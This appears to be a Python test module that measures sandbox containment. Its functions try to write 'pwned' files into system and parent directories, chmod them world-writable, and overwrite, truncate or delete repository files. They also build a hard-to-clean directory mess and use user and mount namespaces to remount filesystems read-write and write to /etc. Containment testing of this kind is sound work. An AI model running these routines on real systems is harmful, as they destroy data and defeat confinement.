"""Tries to write outside its directory: into every directory named on the command
lines of the processes it can see (its ancestors included), into the directories the
test names, over files in the repository, and into /tmp."""
import os
import stat

PAYLOAD = b'{"calls": [], "pwned": true}'


def _dirs_on_cmdlines():
    found = set()
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                args = fh.read().split(b"\0")
        except OSError:
            continue
        for arg in args:
            path = os.fsdecode(arg)
            while path.startswith("/") and path != "/":
                if os.path.isdir(path):
                    found.add(path)
                path = os.path.dirname(path)
    return found


def _try(action, *args):
    try:
        action(*args)
        return 1
    except OSError:
        return 0


def _write(path, data=PAYLOAD):
    with open(path, "wb") as fh:
        fh.write(data)


def attack(dirs, files):
    mine = os.path.realpath(os.getcwd())
    targets = (_dirs_on_cmdlines() | set(dirs) | {"/tmp", "/", "/etc", "/root", "/dev/shm",
                                                  os.path.dirname(mine)})
    wrote = 0
    for d in sorted(targets):
        if os.path.realpath(d).startswith(mine):
            continue  # its own directory is fair game
        wrote += _try(_write, os.path.join(d, "results.json"))
        wrote += _try(_write, os.path.join(d, "pwned_by_escape.npy"))
        wrote += _try(os.mkdir, os.path.join(d, "pwned_dir"))
        wrote += _try(os.chmod, d, 0o777)
    for f in files:
        wrote += _try(_write, f, b"overwritten by escape.py\n")
        wrote += _try(os.truncate, f, 0)
        wrote += _try(os.chmod, f, stat.S_IRWXU | stat.S_IRWXO)
        wrote += _try(os.rename, f, f + ".moved")
        wrote += _try(os.unlink, f)
    return {"wrote": float(wrote), "targets": float(len(targets))}


def make_mess():
    """Things that make cleaning up the directory awkward."""
    os.symlink("/", "root_link")
    os.mkfifo("fifo")
    path = "deep"
    os.makedirs(path)
    os.chdir(path)
    for _ in range(60):
        os.mkdir("d")
        os.chdir("d")
    os.chdir(os.environ["HOME"])
    os.chmod("deep", 0)
    os.chmod(".", 0o500)
    return {"messy": 1.0}


def nested_namespace(targets):
    """In a forked child: make a user+mount namespace of its own (capabilities there),
    try to remount everything read-write, then write to `targets` and /etc."""
    import ctypes
    import json

    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        libc = ctypes.CDLL(None, use_errno=True)
        report = {"unshared": 0, "remounted": 0, "wrote": 0}
        if libc.unshare(0x10000000 | 0x20000) == 0:  # CLONE_NEWUSER | CLONE_NEWNS
            report["unshared"] = 1
            uid = os.getuid()
            for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {uid} 1")):
                _try(_write, f"/proc/self/{name}", text.encode())
            mine = os.path.realpath(os.getcwd())
            with open("/proc/self/mountinfo") as fh:
                points = [line.split()[4] for line in fh if line.split()[4] != mine]
            for point in points:  # MS_REMOUNT | MS_BIND, dropping MS_RDONLY
                if libc.mount(None, point.encode(), None, ctypes.c_ulong(32 | 4096), None) == 0:
                    report["remounted"] += 1
            for d in list(targets) + ["/etc", "/usr", "/tmp"]:
                report["wrote"] += _try(_write, os.path.join(d, "pwned_nested.json"))
        os.write(w, json.dumps(report).encode())
        os._exit(0)
    os.waitpid(pid, 0)
    os.close(w)
    report = json.loads(os.read(r, 4096) or b"{}")
    return {k: float(v) for k, v in report.items()}
